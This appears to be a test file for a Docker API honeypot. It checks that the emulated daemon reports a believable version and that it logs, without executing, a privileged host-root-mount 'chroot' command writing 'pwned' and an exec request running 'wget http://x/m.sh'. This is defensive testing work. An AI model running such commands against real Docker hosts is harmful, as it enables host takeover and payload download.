import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dockerApiService } from '../../../../agent/services/http/docker-api';
import { eventually } from '../../../helpers/eventually';
import { run } from '../mail-infra-helpers';
import { startService, type ServiceHarness } from '../service-harness';

const ip = '127.31.0.8';
const docker = '/usr/local/bin/docker';

describe('docker API honeypot', () => {
  let h: ServiceHarness;
  beforeAll(async () => {
    h = await startService(dockerApiService, {
      ip,
      hostname: 'build-07',
      distro: 'ubuntu22',
      services: ['docker_api'],
    });
  });
  afterAll(() => h.stop());

  it('the docker CLI reads the persona engine version', async () => {
    const r = await run(docker, [
      '-H',
      `tcp://${ip}:2375`,
      'version',
      '--format',
      '{{.Server.Version}} {{.Server.APIVersion}} {{.Server.Os}}',
    ]);
    expect(r.code).toBe(0);
    expect(r.stdout.trim()).toBe('24.0.7 1.43 linux');
    const ps = await run(docker, ['-H', `tcp://${ip}:2375`, 'ps', '-q']);
    expect(ps.code).toBe(0);
    expect(ps.stdout.trim()).toBe('');
  });

  it('/_ping carries the dockerd headers', async () => {
    const r = await run('curl', ['-si', `http://${ip}:2375/_ping`]);
    expect(r.stdout).toContain('\r\nApi-Version: 1.43\r\n');
    expect(r.stdout).toContain('\r\nServer: Docker/24.0.7 (linux)\r\n');
    expect(r.stdout).toContain('\r\nDocker-Experimental: false\r\n');
    expect(r.stdout.endsWith('\r\n\r\nOK')).toBe(true);
  });

  it('docker run is captured as a command and nothing is executed', async () => {
    const r = await run(docker, [
      '-H',
      `tcp://${ip}:2375`,
      'run',
      '--rm',
      '--privileged',
      '-v',
      '/:/mnt',
      'alpine',
      'chroot',
      '/mnt',
      'sh',
      '-c',
      'echo pwned > /tmp/decnet-docker-canary',
    ]);
    expect(r.code).toBe(0);
    const create = await eventually(() => h.ofKind('command').find((c) => c.data.action === 'container-create'));
    expect(create.data).toMatchObject({
      image: 'alpine',
      cmd: ['chroot', '/mnt', 'sh', '-c', 'echo pwned > /tmp/decnet-docker-canary'],
      binds: ['/:/mnt'],
      privileged: true,
    });
    const { existsSync } = await import('node:fs');
    expect(existsSync('/tmp/decnet-docker-canary')).toBe(false);
  });

  it('records exec creation bodies', async () => {
    await run('curl', [
      '-s',
      '-XPOST',
      `http://${ip}:2375/v1.41/containers/abc123/exec`,
      '-H',
      'Content-Type: application/json',
      '-d',
      '{"Cmd":["sh","-c","wget http://x/m.sh"],"AttachStdout":true}',
    ]);
    const exec = await eventually(() => h.ofKind('command').find((c) => c.data.action === 'exec-create'));
    expect(exec.data).toMatchObject({ container: 'abc123', cmd: ['sh', '-c', 'wget http://x/m.sh'] });
  });
});
